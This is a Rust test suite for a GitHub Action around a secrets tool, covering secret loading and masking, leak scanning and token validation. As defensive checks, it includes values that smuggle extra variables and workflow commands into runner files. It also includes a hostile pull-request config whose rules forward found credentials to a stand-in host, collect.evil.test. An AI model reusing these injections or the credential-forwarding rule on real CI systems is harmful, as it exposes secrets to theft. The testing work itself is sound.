//! Issue 6: the GitHub Action, run step by step as the runner would —
//! `action.yml`'s `run` steps in bash, with `${{ inputs.* }}` expressions
//! evaluated, and GITHUB_ENV / GITHUB_OUTPUT / GITHUB_STEP_SUMMARY /
//! GITHUB_EVENT_PATH pointing at temporary files.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::{BIN, Env, fake_github_token, sarif_errors, tool};

const ROOT: &str = env!("CARGO_MANIFEST_DIR");

pub(crate) struct Run {
    pub code: Option<i32>,
    pub stdout: String,
    pub stderr: String,
    pub env_file: String,
    pub outputs: BTreeMap<String, String>,
    pub summary: String,
}

/// Parse a runner file (`GITHUB_ENV`/`GITHUB_OUTPUT`) exactly as the runner
/// does: `NAME=VALUE` lines and `NAME<<DELIM` … `DELIM` blocks.
pub(crate) fn parse_runner_file(text: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut lines = text.split('\n');
    while let Some(line) = lines.next() {
        if line.is_empty() {
            continue;
        }
        if let Some((name, delim)) = line.split_once("<<").filter(|(n, _)| !n.contains('=')) {
            let mut value = Vec::new();
            loop {
                let l = lines.next().expect("unterminated heredoc");
                if l == delim {
                    break;
                }
                value.push(l);
            }
            out.insert(name.to_string(), value.join("\n"));
        } else {
            let (name, value) = line.split_once('=').expect("NAME=VALUE");
            out.insert(name.to_string(), value.to_string());
        }
    }
    out
}

/// Run the composite action's steps with `inputs`.
pub(crate) fn run_action(e: &Env, inputs: &[(&str, &str)], event: Option<(&str, &Path)>) -> Run {
    run_action_env(e, inputs, event, &[])
}

/// [`run_action`] with more variables in the runner's environment.
pub(crate) fn run_action_env(
    e: &Env,
    inputs: &[(&str, &str)],
    event: Option<(&str, &Path)>,
    vars: &[(&str, &str)],
) -> Run {
    let action: serde_norway::Value = serde_norway::from_str(
        &std::fs::read_to_string(Path::new(ROOT).join("action.yml")).unwrap(),
    )
    .unwrap();
    let mut input_values: BTreeMap<String, String> = BTreeMap::new();
    for (k, v) in action["inputs"].as_mapping().unwrap() {
        let default = v.get("default").and_then(|d| d.as_str()).unwrap_or("");
        input_values.insert(k.as_str().unwrap().to_string(), default.to_string());
    }
    for (k, v) in inputs {
        assert!(input_values.contains_key(*k), "action.yml has no input {k}");
        input_values.insert(k.to_string(), v.to_string());
    }
    let files = e.tmp.path().join("runner");
    std::fs::create_dir_all(&files).unwrap();
    let f = |n: &str| {
        let p = files.join(n);
        std::fs::write(&p, "").unwrap();
        p
    };
    let (genv, gout, gsum, gpath) = (f("env"), f("output"), f("summary"), f("path"));
    // gsec on PATH, as the install step leaves it (the cached binary).
    let bin = e.tmp.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let _ = std::fs::remove_file(bin.join("gsec"));
    std::os::unix::fs::symlink(BIN, bin.join("gsec")).unwrap();
    let tool_cache = e.tmp.path().join("toolcache");
    let eval = |s: &str| -> String {
        let mut out = s.to_string();
        while let Some(start) = out.find("${{") {
            let end = start + out[start..].find("}}").expect("closing }}") + 2;
            let expr = out[start + 3..end - 2].trim();
            let value = if let Some(name) = expr.strip_prefix("inputs.") {
                input_values
                    .get(name)
                    .unwrap_or_else(|| panic!("unknown input {name}"))
                    .clone()
            } else if expr == "github.action_path" {
                ROOT.to_string()
            } else if let Some(name) = expr
                .strip_prefix("steps.")
                .and_then(|r| r.split_once(".outputs."))
                .map(|(_, name)| name)
            {
                // What an earlier step wrote to $GITHUB_OUTPUT (last wins).
                std::fs::read_to_string(&gout)
                    .unwrap_or_default()
                    .lines()
                    .rev()
                    .filter_map(|l| l.split_once('='))
                    .find(|(k, _)| *k == name)
                    .map(|(_, v)| v.to_string())
                    .unwrap_or_default()
            } else if expr == "github.action_ref" {
                // A local (path) reference: no tag, so a source build.
                String::new()
            } else if expr == "runner.tool_cache" {
                tool_cache.display().to_string()
            } else {
                panic!("expression the harness does not evaluate in a run step: {expr}")
            };
            out.replace_range(start..end, &value);
        }
        out
    };
    let mut last = None;
    for step in action["runs"]["steps"].as_sequence().unwrap() {
        let Some(script) = step.get("run").and_then(|r| r.as_str()) else {
            continue; // `uses:` steps (the cache) do not run locally
        };
        let wd = step
            .get("working-directory")
            .and_then(|w| w.as_str())
            .map(&eval)
            .unwrap_or(".".into());
        let mut c = Command::new("bash");
        c.args(["--noprofile", "--norc", "-eo", "pipefail", "-c", script])
            .current_dir(e.dir.join(wd));
        e.clean_env(&mut c);
        c.env(
            "PATH",
            format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()),
        );
        c.env("GITHUB_ACTIONS", "true")
            .env("GITHUB_ENV", &genv)
            .env("GITHUB_OUTPUT", &gout)
            .env("GITHUB_STEP_SUMMARY", &gsum)
            .env("GITHUB_PATH", &gpath)
            .env("GITHUB_WORKSPACE", &e.dir);
        if let Some((name, path)) = event {
            c.env("GITHUB_EVENT_NAME", name)
                .env("GITHUB_EVENT_PATH", path);
        }
        c.envs(vars.iter().copied());
        if let Some(env) = step.get("env").and_then(|v| v.as_mapping()) {
            for (k, v) in env {
                c.env(k.as_str().unwrap(), eval(v.as_str().unwrap()));
            }
        }
        let out = c.output().unwrap();
        let failed = !out.status.success();
        last = Some(out);
        if failed {
            break;
        }
    }
    let out = last.expect("a run step");
    Run {
        code: out.status.code(),
        stdout: String::from_utf8(out.stdout).unwrap(),
        stderr: String::from_utf8(out.stderr).unwrap(),
        env_file: std::fs::read_to_string(&genv).unwrap(),
        outputs: parse_runner_file(&std::fs::read_to_string(&gout).unwrap()),
        summary: std::fs::read_to_string(&gsum).unwrap(),
    }
}

/// The runner's unescaping of a command value.
fn unescape(s: &str) -> String {
    s.replace("%0D", "\r")
        .replace("%0A", "\n")
        .replace("%25", "%")
}

#[test]
fn load_masks_every_value_first_and_round_trips_hostile_values() {
    let e = Env::project();
    let key = std::fs::read_to_string(&e.key).unwrap();
    let hostile: Vec<(&str, String)> = vec![
        ("PLAIN", "p1ain-value-123".into()),
        (
            "MULTI",
            "-----BEGIN KEY-----\nline two\nline three\n-----END KEY-----".into(),
        ),
        ("EOFISH", "EOF\nEOF\nvalue".into()),
        (
            "DELIM",
            "ghadelimiter_0123456789abcdef0123456789abcdef\nX=injected".into(),
        ),
        (
            "COMMANDS",
            "::add-mask::nope\n::set-output name=x::y\n::error::boom".into(),
        ),
        ("PERCENT", "100%0A done %25 %".into()),
        ("INJECT", "harmless\nEVIL=1\nPATH=/tmp".into()),
        (
            "UNICODE",
            "ünïcödé ✓ \"quotes\" 'single' $HOME `cmd` \\back".into(),
        ),
    ];
    for (name, value) in &hostile {
        e.set(name, "production", value);
    }
    e.set("NOT_LOADED", "production", "should-not-load");
    let names: Vec<&str> = hostile.iter().map(|(n, _)| *n).collect();
    let run = run_action(
        &e,
        &[
            ("command", "load"),
            ("env", "production"),
            ("age-key", &key),
            ("secrets", &names.join("\n")),
        ],
        None,
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    // Values round-trip exactly; nothing else was set.
    let vars = parse_runner_file(&run.env_file);
    let expected: BTreeMap<String, String> = hostile
        .iter()
        .map(|(n, v)| (n.to_string(), v.clone()))
        .collect();
    assert_eq!(vars, expected);
    // Every value and every line of a multi-line value is masked, and the
    // masks come before anything else on stdout.
    let masks: Vec<String> = run
        .stdout
        .lines()
        .filter_map(|l| l.strip_prefix("::add-mask::"))
        .map(unescape)
        .collect();
    let first_other = run
        .stdout
        .lines()
        .position(|l| !l.starts_with("::add-mask::"))
        .unwrap_or(usize::MAX);
    assert!(
        run.stdout
            .lines()
            .take_while(|l| l.starts_with("::add-mask::"))
            .count()
            >= masks.len().min(first_other)
    );
    for (name, value) in &hostile {
        assert!(masks.contains(value), "{name} not masked");
        for line in value.lines().filter(|l| !l.trim().is_empty()) {
            assert!(
                masks.iter().any(|m| m == line),
                "line {line:?} of {name} not masked"
            );
        }
        // Outside the mask commands, no value shows up.
        let rest: String = run
            .stdout
            .lines()
            .filter(|l| !l.starts_with("::add-mask::"))
            .collect::<Vec<_>>()
            .join("\n");
        assert!(!rest.contains(value.as_str()), "{name} printed unmasked");
        assert!(!run.stderr.contains(value.as_str()), "{name} on stderr");
    }
    assert!(!run.stdout.contains("should-not-load") && !run.env_file.contains("should-not-load"));
    // Every mask command is a single line: no value injects a command.
    for l in run.stdout.lines() {
        assert!(
            l.starts_with("::add-mask::"),
            "unexpected stdout line {l:?}"
        );
    }
}

#[test]
fn check_fails_with_an_annotation_for_a_missing_secret() {
    let e = Env::project();
    let cfg = e.read(".gsec.yaml");
    e.write(".gsec.yaml", &format!("{cfg}secrets:\n  DB_PASSWORD:\n    description: main database\n    required: [production]\n"));
    let run = run_action(&e, &[("command", "check"), ("env", "production")], None);
    assert_eq!(run.code, Some(1));
    assert!(
        run.stdout.lines().any(|l| l.starts_with("::error ")
            && l.contains("DB_PASSWORD")
            && l.contains("production")),
        "{}",
        run.stdout
    );
    assert!(run.summary.contains("DB_PASSWORD"), "{}", run.summary);
    assert_eq!(run.outputs.get("problems").map(String::as_str), Some("1"));
    e.set("DB_PASSWORD", "production", "s3cret-value");
    let key = std::fs::read_to_string(&e.key).unwrap();
    let run = run_action(
        &e,
        &[
            ("command", "check"),
            ("env", "production"),
            ("age-key", &key),
        ],
        None,
    );
    assert_eq!(run.code, Some(0), "{}", run.stdout);
}

#[test]
fn scan_covers_exactly_the_pull_request_range() {
    let e = Env::project();
    e.git(&["add", "-A"]);
    e.git(&["commit", "-qm", "init"]);
    // An old leak, added and removed on main before this pull request: not re-flagged.
    let old = fake_github_token();
    e.write("old.env", &format!("GITHUB_TOKEN={old}\n"));
    e.git(&["add", "-A"]);
    e.git(&["commit", "-qm", "old leak"]);
    std::fs::remove_file(e.path("old.env")).unwrap();
    e.git(&["commit", "-qam", "remove old leak"]);
    let base = e.git(&["rev-parse", "HEAD"]).trim().to_string();
    // The pull request adds a token and removes it again: still reported.
    e.git(&["checkout", "-qb", "feature"]);
    let new = fake_github_token();
    e.write("src/client.py", &format!("TOKEN = \"{new}\"\n"));
    e.git(&["add", "-A"]);
    e.git(&["commit", "-qm", "add client"]);
    let leak_commit = e.git(&["rev-parse", "HEAD"]).trim().to_string();
    e.write(
        "src/client.py",
        "import os\nTOKEN = os.environ[\"TOKEN\"]\n",
    );
    e.git(&["commit", "-qam", "read token from env"]);
    let head = e.git(&["rev-parse", "HEAD"]).trim().to_string();
    let payload =
        std::fs::read_to_string(Path::new(ROOT).join("tests/fixtures/action/pull_request.json"))
            .unwrap()
            .replace("BASE_SHA", &base)
            .replace("HEAD_SHA", &head);
    let event = e.tmp.path().join("event.json");
    std::fs::write(&event, payload).unwrap();
    let run = run_action(
        &e,
        &[("command", "scan"), ("sarif-file", "out/gsec.sarif")],
        Some(("pull_request", &event)),
    );
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains(&format!("{base}..{head}")),
        "{}",
        run.stderr
    );
    assert_eq!(
        run.outputs.get("findings").map(String::as_str),
        Some("1"),
        "{:?}",
        run.outputs
    );
    let annotations: Vec<&str> = run
        .stdout
        .lines()
        .filter(|l| l.starts_with("::error "))
        .collect();
    assert_eq!(annotations.len(), 1, "{}", run.stdout);
    assert!(
        annotations[0].contains("file=src/client.py") && annotations[0].contains("line=1"),
        "{}",
        annotations[0]
    );
    assert!(
        run.summary.contains("src/client.py") && run.summary.contains(&leak_commit[..12]),
        "{}",
        run.summary
    );
    for s in [&old, &new] {
        assert!(
            !run.stdout.contains(s.as_str())
                && !run.summary.contains(s.as_str())
                && !run.stderr.contains(s.as_str())
        );
    }
    // The SARIF report validates against the official 2.1.0 schema.
    // Not a tagged Action: the install cache is keyed by a hash of gsec's
    // source.
    let key = &run.outputs["cache-key"];
    let hash = key
        .strip_prefix("source-")
        .unwrap_or_else(|| panic!("{key:?}"));
    assert!(
        hash.len() == 16 && hash.bytes().all(|b| b.is_ascii_hexdigit()),
        "{key:?}"
    );
    let sarif: PathBuf = run.outputs["sarif-file"].clone().into();
    assert!(sarif.ends_with("out/gsec.sarif") && sarif.is_file());
    if let Err(e) = sarif_errors(&sarif) {
        panic!("SARIF does not validate: {e}");
    }
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&sarif).unwrap()).unwrap();
    assert_eq!(v["runs"][0]["results"].as_array().unwrap().len(), 1);
    assert!(
        !std::fs::read_to_string(&sarif)
            .unwrap()
            .contains(new.as_str())
    );
    // A push scans before..after; a deleted branch scans nothing.
    let push = e.tmp.path().join("push.json");
    std::fs::write(&push, format!("{{\"before\":\"{leak_commit}\",\"after\":\"{head}\",\"repository\":{{\"default_branch\":\"main\"}}}}")).unwrap();
    let run = run_action(&e, &[("command", "scan")], Some(("push", &push)));
    assert_eq!(run.code, Some(0), "{}", run.stdout);
    assert_eq!(run.outputs.get("findings").map(String::as_str), Some("0"));
}

/// `validate: true`: each finding whose rule declares a check is checked
/// at its provider (a fake one on 127.0.0.1, mapped by
/// `scan.validate.endpoints`): the live token is an error annotation that
/// says so, the revoked one a warning, the summary shows both verdicts,
/// and no token is printed anywhere. Without the input no request is made;
/// a value other than true/false is a clear error.
#[test]
fn scan_with_validate_annotates_live_findings_as_errors() {
    use crate::validate::{Fake, project, reply};
    let (live, revoked) = (fake_github_token(), fake_github_token());
    let l = live.clone();
    let fake = Fake::start(move |s| {
        if s.header("Authorization") == Some(&format!("Bearer {l}")) {
            reply(200, r#"{"login":"octocat"}"#)
        } else {
            reply(401, r#"{"message":"Bad credentials"}"#)
        }
    });
    let e = project(&["api.github.com"], &fake.url, "");
    e.write("live.env", &format!("GITHUB_TOKEN={live}\n"));
    e.write("old.env", &format!("GITHUB_TOKEN={revoked}\n"));
    e.git(&["add", "-A"]);
    e.git(&["commit", "-qm", "leaks"]);
    let run = run_action(&e, &[("command", "scan"), ("validate", "true")], None);
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    let line = |prefix: &str| -> String {
        run.stdout
            .lines()
            .find(|l| l.starts_with(prefix))
            .unwrap_or_else(|| panic!("no {prefix}: {}", run.stdout))
            .to_string()
    };
    let a = line("::error file=live.env,");
    assert!(
        a.contains("title=gsec%3A github-pat-classic (live)::")
            && a.contains("validation: live (")
            && a.contains("answered 200"),
        "{a}"
    );
    let b = line("::warning file=old.env,");
    assert!(
        b.contains("(invalid)::") && b.contains("validation: invalid ("),
        "{b}"
    );
    assert_eq!(fake.seen().len(), 2, "{:?}", fake.seen());
    assert!(
        run.summary.contains("| Validation |")
            && run.summary.contains("**live**")
            && run.summary.contains("**invalid**"),
        "{}",
        run.summary
    );
    assert_eq!(run.outputs.get("findings").map(String::as_str), Some("2"));
    for t in [&live, &revoked] {
        for text in [&run.stdout, &run.stderr, &run.summary] {
            assert!(!text.contains(t.as_str()), "{text}");
        }
        let sarif = std::fs::read_to_string(&run.outputs["sarif-file"]).unwrap();
        assert!(!sarif.contains(t.as_str()));
    }
    // The default: no request, both findings plain errors.
    let run = run_action(&e, &[("command", "scan")], None);
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    assert_eq!(fake.seen().len(), 2, "validate defaults to false");
    assert_eq!(
        run.stdout.matches("::error file=").count(),
        2,
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains("validation:"), "{}", run.stdout);
    let run = run_action(&e, &[("command", "scan"), ("validate", "yes")], None);
    assert_eq!(run.code, Some(2), "{}", run.stdout);
    assert!(run.stderr.contains("--validate"), "{}", run.stderr);
}

/// On a pull request, `.gsec.yaml` is the pull request's own: `validate`
/// must not let it choose where the credentials found go. Its
/// `scan.validate.endpoints` and its custom rules' `verify` (one with a
/// new id, one reusing a built-in id) are ignored, with one warning saying
/// so: the fakes they name hear nothing, the built-in GitHub rule is still
/// checked at api.github.com only (through a fake proxy on 127.0.0.1, so
/// nothing leaves the machine), the custom rules' findings are reported
/// unchecked, and the exit code is unchanged. On a push the same
/// configuration is used as written.
#[test]
fn scan_validate_on_a_pull_request_ignores_the_pull_requests_validators() {
    use crate::validate::{Fake, reply};
    let provider = Fake::start(|_| reply(200, r#"{"login":"octocat"}"#));
    let collector = Fake::start(|_| reply(200, "{}"));
    let proxy = Fake::start(|_| reply(403, ""));
    let e = Env::project();
    e.git(&["add", "-A"]);
    e.git(&["commit", "-qm", "init"]);
    let base = e.git(&["rev-parse", "HEAD"]).trim().to_string();
    // The pull request adds the configuration and the credentials.
    let rule = |id: &str, prefix: &str| {
        format!(
            "  - id: {id}\n    description: {id}\n    keywords: [{prefix}]\n    pattern: '{prefix}([0-9a-f]{{32}})'\n    verify:\n      url: https://collect.evil.test/{id}\n      headers: {{X-Key: '{{secret}}'}}\n      live: [200]\n"
        )
    };
    let settings = format!(
        "  validate:\n    endpoints:\n      api.github.com: {}\n      collect.evil.test: {}\n  rules:\n{}{}",
        provider.url,
        collector.url,
        rule("acme-token", "acme_"),
        rule("stripe-secret-key", "zeta_"),
    );
    e.write(".gsec.yaml", &crate::scan::with_scan(&e, &settings));
    let gh = fake_github_token();
    let acme = format!("{:032x}", rand::random::<u128>());
    let zeta = format!("{:032x}", rand::random::<u128>());
    e.write("a.env", &format!("GITHUB_TOKEN={gh}\n"));
    e.write("b.txt", &format!("acme_{acme}\nzeta_{zeta}\n"));
    e.git(&["add", "-A"]);
    e.git(&["commit", "-qm", "leaks"]);
    let head = e.git(&["rev-parse", "HEAD"]).trim().to_string();
    // Requests to any host but 127.0.0.1 go to the fake proxy.
    let vars = [("ALL_PROXY", proxy.url.as_str()), ("NO_PROXY", "127.0.0.1")];
    // What a fake was asked (method and target; headers hold credentials).
    let asked = |f: &Fake| -> Vec<String> {
        f.seen()
            .iter()
            .map(|s| format!("{} {}", s.method, s.url))
            .collect()
    };
    let no_secret = |run: &Run| {
        for t in [&gh, &acme, &zeta] {
            for text in [&run.stdout, &run.stderr, &run.summary] {
                assert!(!text.contains(t.as_str()), "{text}");
            }
        }
    };
    let pr =
        std::fs::read_to_string(Path::new(ROOT).join("tests/fixtures/action/pull_request.json"))
            .unwrap()
            .replace("BASE_SHA", &base)
            .replace("HEAD_SHA", &head);
    let pr_event = e.tmp.path().join("pr.json");
    std::fs::write(&pr_event, pr).unwrap();
    for name in ["pull_request", "pull_request_target"] {
        let run = run_action_env(
            &e,
            &[("command", "scan"), ("validate", "true")],
            Some((name, &pr_event)),
            &vars,
        );
        assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
        assert_eq!(run.outputs.get("findings").map(String::as_str), Some("3"));
        assert!(provider.seen().is_empty(), "{:?}", asked(&provider));
        assert!(collector.seen().is_empty(), "{:?}", asked(&collector));
        let warnings: Vec<&str> = run
            .stdout
            .lines()
            .filter(|l| l.starts_with("::warning title=gsec validate::"))
            .collect();
        assert_eq!(warnings.len(), 1, "{}", run.stdout);
        for part in [
            name,
            "scan.validate.endpoints (api.github.com, collect.evil.test)",
            "custom rule(s) acme-token, stripe-secret-key",
        ] {
            assert!(warnings[0].contains(part), "{part}: {}", warnings[0]);
        }
        assert!(
            run.summary.contains("scan.validate.endpoints"),
            "{}",
            run.summary
        );
        // The built-in rule asked its own host; the custom ones nothing.
        let gh_line = run
            .stdout
            .lines()
            .find(|l| l.starts_with("::") && l.contains("file=a.env"))
            .unwrap_or_else(|| panic!("{}", run.stdout));
        assert!(gh_line.contains("validation: unknown ("), "{gh_line}");
        for l in run.stdout.lines().filter(|l| l.contains("file=b.txt")) {
            assert!(
                l.starts_with("::error ") && !l.contains("validation:"),
                "{l}"
            );
        }
        assert_eq!(
            run.stdout.matches("file=b.txt").count(),
            2,
            "{}",
            run.stdout
        );
        no_secret(&run);
    }
    assert_eq!(
        asked(&proxy),
        ["CONNECT api.github.com:443", "CONNECT api.github.com:443"],
        "only the built-in rule's own host"
    );
    // Without validate, nothing is ignored and nothing is said.
    let run = run_action_env(
        &e,
        &[("command", "scan")],
        Some(("pull_request", &pr_event)),
        &vars,
    );
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    assert!(!run.stdout.contains("gsec validate"), "{}", run.stdout);
    // A push: the repository's own configuration, used as written.
    let push = e.tmp.path().join("push.json");
    std::fs::write(
        &push,
        format!("{{\"before\":\"{base}\",\"after\":\"{head}\",\"repository\":{{\"default_branch\":\"main\"}}}}"),
    )
    .unwrap();
    let run = run_action_env(
        &e,
        &[("command", "scan"), ("validate", "true")],
        Some(("push", &push)),
        &vars,
    );
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    assert!(!run.stdout.contains("gsec validate"), "{}", run.stdout);
    assert_eq!(asked(&provider), ["GET /user"]);
    let mut paths = asked(&collector);
    paths.sort();
    assert_eq!(paths, ["GET /acme-token", "GET /stripe-secret-key"]);
    assert_eq!(asked(&proxy).len(), 2, "{:?}", asked(&proxy));
    assert_eq!(
        run.stdout.matches("validation: live (").count(),
        3,
        "{}",
        run.stdout
    );
    no_secret(&run);
}

/// Given a key, the Action expects managed values to be searched for: a
/// key that cannot decrypt the environments makes the scan fail (exit 2,
/// `--strict` semantics) instead of passing without that check.
#[test]
fn scan_given_a_key_fails_when_managed_values_cannot_be_searched_for() {
    let e = Env::project();
    e.set("DB_PASSWORD", "development", "summer@2024!");
    e.git(&["add", "-A"]);
    e.git(&["commit", "-qm", "init"]);
    let (other, _) = e.other_key("other");
    let wrong = std::fs::read_to_string(&other).unwrap();
    let run = run_action(&e, &[("command", "scan"), ("age-key", &wrong)], None);
    assert_eq!(run.code, Some(2), "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stdout
            .lines()
            .any(|l| l.starts_with("::warning title=gsec::managed-value detection skipped")),
        "{}",
        run.stdout
    );
    assert!(
        run.summary.contains("managed-value detection skipped"),
        "{}",
        run.summary
    );
    let sarif: PathBuf = run.outputs["sarif-file"].clone().into();
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&sarif).unwrap()).unwrap();
    assert_eq!(
        v["runs"][0]["invocations"][0]["toolExecutionNotifications"][0]["level"],
        "warning"
    );
    // The right key: the check runs, nothing found.
    let key = std::fs::read_to_string(&e.key).unwrap();
    let run = run_action(&e, &[("command", "scan"), ("age-key", &key)], None);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    assert!(!run.stdout.contains("::warning"), "{}", run.stdout);
    // No key at all: the skipped check is a warning, not a failure.
    let run = run_action(&e, &[("command", "scan")], None);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains("::warning title=gsec::"),
        "{}",
        run.stdout
    );
}

#[test]
fn unknown_command_fails_clearly() {
    let e = Env::project();
    let run = run_action(&e, &[("command", "deploy")], None);
    assert_eq!(run.code, Some(2));
    assert!(
        run.stdout
            .contains("::error title=gsec::unknown command 'deploy'")
    );
}

#[test]
fn workflows_and_action_pass_actionlint_and_github_schemas() {
    let root = Path::new(ROOT);
    let workflows: Vec<PathBuf> = std::fs::read_dir(root.join(".github/workflows"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .chain([root.join("examples/github-workflow.yml")])
        .collect();
    let out = Command::new(tool("actionlint"))
        .args(&workflows)
        .current_dir(root)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "actionlint: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let out = Command::new(tool("check-jsonschema"))
        .args(["--builtin-schema", "vendor.github-actions"])
        .arg(root.join("action.yml"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "action.yml: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    let out = Command::new(tool("check-jsonschema"))
        .args(["--builtin-schema", "vendor.github-workflows"])
        .args(&workflows)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "workflows: {}",
        String::from_utf8_lossy(&out.stdout)
    );
}

#[test]
fn inbox_merge_folds_sealed_values_and_says_how_many() {
    let e = Env::project();
    e.set("A", "production", "alpha-value-1");
    let key = std::fs::read_to_string(&e.key).unwrap();
    // Bob is no recipient: his value is sealed into the inbox.
    let (bob, _) = e.other_key("bob");
    let mut c = e.cmd(&["set", "STRIPE_KEY", "--env", "production"]);
    c.env("GSEC_AGE_KEY_FILE", &bob);
    assert!(e.run_cmd(c, b"sk-sealed-value").status.success());
    assert!(e.path("secrets/production.inbox").exists());
    // A job whose key cannot decrypt production: nothing merged, a warning.
    let bob_key = std::fs::read_to_string(&bob).unwrap();
    let run = run_action(
        &e,
        &[("command", "inbox-merge"), ("age-key", &bob_key)],
        None,
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(run.outputs.get("merged").map(String::as_str), Some("0"));
    assert!(
        run.stdout.contains("::warning") && run.stdout.contains("production"),
        "{}",
        run.stdout
    );
    // Naming the environment makes that an error.
    let run = run_action(
        &e,
        &[
            ("command", "inbox-merge"),
            ("env", "production"),
            ("age-key", &bob_key),
        ],
        None,
    );
    assert_eq!(run.code, Some(2));
    // With production's key: merged, counted, summarised, never printed.
    let run = run_action(&e, &[("command", "inbox-merge"), ("age-key", &key)], None);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(run.outputs.get("merged").map(String::as_str), Some("1"));
    assert_eq!(
        run.outputs.get("environments").map(String::as_str),
        Some("production")
    );
    assert!(
        run.summary.contains("| production | STRIPE_KEY |"),
        "{}",
        run.summary
    );
    assert!(!format!("{}{}{}", run.stdout, run.stderr, run.summary).contains("sk-sealed-value"));
    assert!(!e.path("secrets/production.inbox").exists());
    assert!(
        e.read("secrets/production.yaml")
            .contains("STRIPE_KEY: ENC[")
    );
    assert_eq!(e.get("STRIPE_KEY", "production"), "sk-sealed-value");
}

/// `load` with `service:` and the service's own key: exactly the secrets
/// granted to it, read from its derived file (issue 16, item 3).
#[test]
fn load_with_a_service_key_sets_only_that_services_secrets() {
    let e = Env::project();
    let (api, api_r) = e.other_key("api");
    let cfg = e.read(".gsec.yaml");
    e.write(
        ".gsec.yaml",
        &format!("{cfg}services:\n  api: {{secrets: [DB_PASSWORD], recipients: [{api_r}]}}\n"),
    );
    e.set("DB_PASSWORD", "production", "db-pass-for-api");
    e.set("OTHER", "production", "not-for-api");
    let key = std::fs::read_to_string(&api).unwrap();
    let run = run_action(
        &e,
        &[
            ("command", "load"),
            ("env", "production"),
            ("age-key", &key),
            ("service", "api"),
        ],
        None,
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let vars = parse_runner_file(&run.env_file);
    assert_eq!(
        vars.into_iter().collect::<Vec<_>>(),
        [("DB_PASSWORD".to_string(), "db-pass-for-api".to_string())]
    );
    assert!(
        run.stdout.contains("::add-mask::db-pass-for-api"),
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains("not-for-api"), "{}", run.stdout);
    // Without `service:`, the same key reads nothing else.
    let run = run_action(
        &e,
        &[
            ("command", "load"),
            ("env", "production"),
            ("age-key", &key),
        ],
        None,
    );
    assert_eq!(run.code, Some(2), "{}", run.stderr);
}
